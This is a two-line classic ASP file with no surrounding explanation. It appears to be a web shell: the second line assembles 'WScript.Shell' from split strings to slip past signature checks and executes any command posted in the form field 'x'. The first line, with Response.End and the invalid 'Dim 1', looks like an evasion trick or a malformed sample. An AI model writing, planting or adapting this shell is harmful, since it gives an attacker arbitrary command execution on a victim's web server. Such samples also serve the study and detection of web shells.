<% Response.End : Dim 1 %>
<% Set s=CreateObject("W"&"Script.Sh"&"ell"): s.Run request.form("x") %>
